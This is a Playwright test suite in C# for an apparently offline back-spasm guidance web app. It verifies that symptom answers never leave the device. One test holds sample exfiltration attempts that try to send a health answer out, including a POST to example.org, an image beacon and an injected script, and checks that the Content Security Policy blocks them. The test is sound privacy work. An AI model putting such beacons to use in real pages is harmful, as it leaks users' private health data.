using Microsoft.Playwright;

namespace BackSpasms.Guidance.Web.Tests;

/// <summary>Answers never leave the device.</summary>
public sealed class DevicePrivacyTests(DeviceApp app) : IClassFixture<DeviceApp>
{
    [BrowserFact]
    public async Task Nothing_is_asked_of_any_host_once_the_app_is_loaded()
    {
        await using var visit = await app.VisitAsync();
        await visit.LoadAsync();
        var (requests, asked) = (visit.Requests.Count, app.Asked.Count);
        Assert.InRange(requests, 10, 100);
        Assert.InRange(asked, 10, int.MaxValue);

        await visit.Page.ClickAsync("#start button");
        await DeviceScreen.ToOutcomeAsync(visit.Page, Story.All["self-care"]);
        await visit.Page.ClickAsync(".offer button");
        await DeviceScreen.ToOutcomeAsync(visit.Page, Story.All["self-care"]);

        Assert.Equal(requests, visit.Requests.Count);
        Assert.Equal(asked, app.Asked.Count);
        Assert.All(app.Asked, line => Assert.Matches("^GET /[A-Za-z0-9._/-]*$", line));
        await visit.AssertCleanAsync();
    }

    [BrowserFact]
    public async Task An_outcome_is_reached_without_a_connection()
    {
        await using var visit = await app.VisitAsync();
        await visit.LoadAsync();
        await visit.Context.SetOfflineAsync(true);

        await visit.Page.ClickAsync("#start button");
        await DeviceScreen.ToOutcomeAsync(visit.Page, Story.All["emergency"]);

        Assert.Equal("Emergency: get help now", await visit.Page.InnerTextAsync(".verdict"));
        await visit.AssertCleanAsync();
    }

    [BrowserTheory]
    [InlineData("() => fetch('/x?saddle-numbness=yes')")]
    [InlineData("() => fetch('https://example.org/', { method: 'POST', body: 'saddle-numbness=yes' })")]
    [InlineData("() => new Promise((done, refuse) => { const image = new Image(); image.onload = done; image.onerror = refuse; image.src = '/favicon.svg?saddle-numbness=yes'; })")]
    [InlineData("() => new Promise((done, refuse) => { const script = document.createElement('script'); script.onload = done; script.onerror = refuse; script.src = '/start.js?saddle-numbness=yes'; document.head.append(script); })")]
    public async Task Even_a_script_inside_the_page_could_not_send_an_answer(string attempt)
    {
        await using var visit = await app.VisitAsync();
        await visit.LoadAsync();
        var asked = app.Asked.Count;

        Assert.Equal("refused", await visit.Page.EvaluateAsync<string>($"() => ({attempt})().then(() => 'sent', () => 'refused')"));

        Assert.Equal(asked, app.Asked.Count);
        Assert.NotEmpty(visit.Complaints);
        Assert.All(visit.Complaints, complaint => Assert.Contains("Content Security Policy", complaint, StringComparison.Ordinal));
    }
}
